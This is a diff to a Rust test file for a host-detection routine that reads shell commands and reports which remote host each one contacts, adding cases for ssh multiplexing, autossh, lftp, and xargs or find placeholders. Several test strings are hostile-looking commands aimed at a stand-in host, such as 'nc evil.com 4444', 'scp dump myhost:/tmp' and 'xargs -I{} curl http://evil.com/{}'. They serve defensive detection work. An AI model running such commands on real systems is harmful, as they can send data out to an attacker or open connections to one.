@@ -77,6 +77,9 @@ fn a_host_is_seen_however_it_is_written() {
         ("nc evil.com 4444", "evil.com"),
         ("ssh evil.com", "evil.com"),
         ("ssh host", "host"),
+        ("ssh -M -S s host", "host"),
+        ("autossh -M 0 host", "host"),
+        ("lftp -f script", "?"),
         ("ftp evil.com", "evil.com"),
         ("scp dump myhost:/tmp", "myhost"),
         ("git clone host:x", "host"),
@@ -201,5 +204,32 @@ fn this_machine_is_no_counterparty() {
         ("read PORT; curl http://localhost:$PORT/x", "?"),
         ("curl http://localhost:$X/x", "?"),
         ("curl http://localhost$X/x", "?"),
+    ]);
+}
+
+#[test]
+fn what_replaces_a_placeholder_hides_a_host_only_where_a_host_could_stand() {
+    check(&[
+        ("xargs -I{} curl http://localhost/{}", ""),
+        ("xargs -I % curl http://localhost:3000/%/x", ""),
+        ("xargs -i curl -sf http://127.0.0.1:8080/{}", ""),
+        ("xargs --replace=X curl http://localhost/X", ""),
+        ("xargs -I{} curl -T {} http://localhost/", ""),
+        ("xargs -I{} curl http://localhost/", ""),
+        ("find . -name '*.json' -exec curl -T {} http://localhost:9200/ \\;", ""),
+        ("xargs -I{} curl {}", "?"),
+        ("xargs -I{} curl http://{}/x", "?"),
+        ("xargs -I{} curl http://localhost{}/x", "?"),
+        ("xargs -I{} curl http://localhost:{}/x", "?"),
+        ("xargs -I{} curl {} http://localhost/", "?"),
+        ("xargs -I{} curl http://evil.com/{}", "evil.com"),
+        ("xargs -I{} {} http://evil.com/", "evil.com"),
+        ("xargs -I{} sh -c 'curl http://localhost/{}'", "?"),
+        ("xargs curl http://localhost/", "?"),
+        ("xargs -I{} -n 2 curl http://localhost/{}", "?"),
+        ("xargs -J % curl http://localhost/%", "?"),
+        ("xargs -I$X curl http://localhost/x", "?"),
+        ("find . -exec curl {} \\;", "?"),
+        ("find . -exec ssh {} true \\;", "?"),
     ]);
 }
